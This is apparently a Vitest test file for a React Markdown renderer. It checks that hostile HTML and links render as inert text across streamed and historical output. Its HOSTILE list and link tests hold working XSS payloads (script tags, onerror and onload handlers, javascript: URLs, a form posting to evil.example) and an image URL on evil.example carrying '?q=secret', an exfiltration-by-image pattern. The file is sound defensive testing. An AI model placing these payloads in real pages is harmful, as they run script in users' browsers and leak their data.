import { MantineProvider } from "@mantine/core";
import { render, screen, waitFor } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { Markdown } from "./Markdown";

function draw(text: string, isStreaming = false) {
  return render(
    <MantineProvider env="test">
      <Markdown text={text} isStreaming={isStreaming} renderCitation={(number) => <button type="button">source {number}</button>} />
    </MantineProvider>,
  ).container;
}

const HOSTILE = [
  "<script>window.pwned = 1</script>",
  '<img src=x onerror="window.pwned = 1">',
  '![" onerror="window.pwned=1](https://evil.example/x.png)',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<svg onload="window.pwned=1"><a xlink:href="javascript:1">x</a></svg>',
  '<math><mtext><style><img src=x onerror="window.pwned=1">',
  "<a href='javascript:window.pwned=1'>click</a>",
  '<form action="https://evil.example"><input name="q"></form>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<cite-marker number="1">fake</cite-marker>',
];

describe.each([
  ["history", false],
  ["a stream", true],
])("Markdown in %s", (_where, isStreaming) => {
  it.each(HOSTILE)("draws HTML as text: %s", (text) => {
    const container = draw(text, isStreaming);
    expect(container.querySelector("script, img, iframe, svg[onload], form, input, math, [style*='evil'], button")).toBeNull();
    for (const element of container.querySelectorAll("*")) {
      for (const { name } of element.attributes) expect(name).not.toMatch(/^on/);
    }
    expect("pwned" in window).toBe(false);
  });

  it.each(["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>1</script>", "vbscript:x", "file:///etc/passwd", "/api/v1/auth/logout"])(
    "makes no link of %s",
    (href) => {
      const container = draw(`[click](${href})`, isStreaming);
      expect(container.querySelector("a")).toBeNull();
      expect(container).toHaveTextContent("click");
    },
  );

  it("opens links in a new tab and tells nobody where from", () => {
    draw("[docs](https://example.org/a) and [mail](mailto:a@example.org)", isStreaming);
    const link = screen.getByRole("link", { name: "docs" });
    expect(link).toHaveAttribute("href", "https://example.org/a");
    expect(link).toHaveAttribute("target", "_blank");
    expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
    expect(screen.getByRole("link", { name: "mail" })).toHaveAttribute("href", "mailto:a@example.org");
  });

  it("shows a remote picture as a link and never loads it", () => {
    const container = draw("![chart](https://evil.example/x.png?q=secret)", isStreaming);
    expect(container.querySelector("img")).toBeNull();
    expect(screen.getByRole("link", { name: "chart" })).toHaveAttribute("href", "https://evil.example/x.png?q=secret");
  });

  it("shows a picture from anywhere else by its name alone", () => {
    const container = draw("![chart](data:image/svg+xml;base64,AAAA)", isStreaming);
    expect(container.querySelector("img, a")).toBeNull();
    expect(container).toHaveTextContent("chart");
  });

  it("makes buttons of citation markers, but not in code", () => {
    draw("Thirty days [1], carried over [2, 3]. `a[1]`\n\n```js\nb[1]\n```", isStreaming);
    expect(screen.getAllByRole("button", { name: /^source/ }).map((each) => each.textContent)).toEqual(["source 1", "source 2", "source 3"]);
  });
});

describe("Markdown", () => {
  it("draws the same from a stream as from history", () => {
    const text = "# Title\n\nSome **bold** text [1].\n\n| a | b |\n| - | - |\n| 1 | 2 |\n";
    const words = (container: HTMLElement) => container.querySelector(".markdown")?.textContent.replaceAll(/\n/g, "");
    expect(words(draw(text))).toContain("Some bold text source 1");
    expect(words(draw(text, true))).toBe(words(draw(text, false)));
  });

  it("draws formulas, and prices as prices", async () => {
    const container = draw("$x^2$ costs $5 or $10");
    await waitFor(() => expect(container.querySelector(".katex")).not.toBeNull());
    expect(container).toHaveTextContent("costs $5 or $10");
  });
});
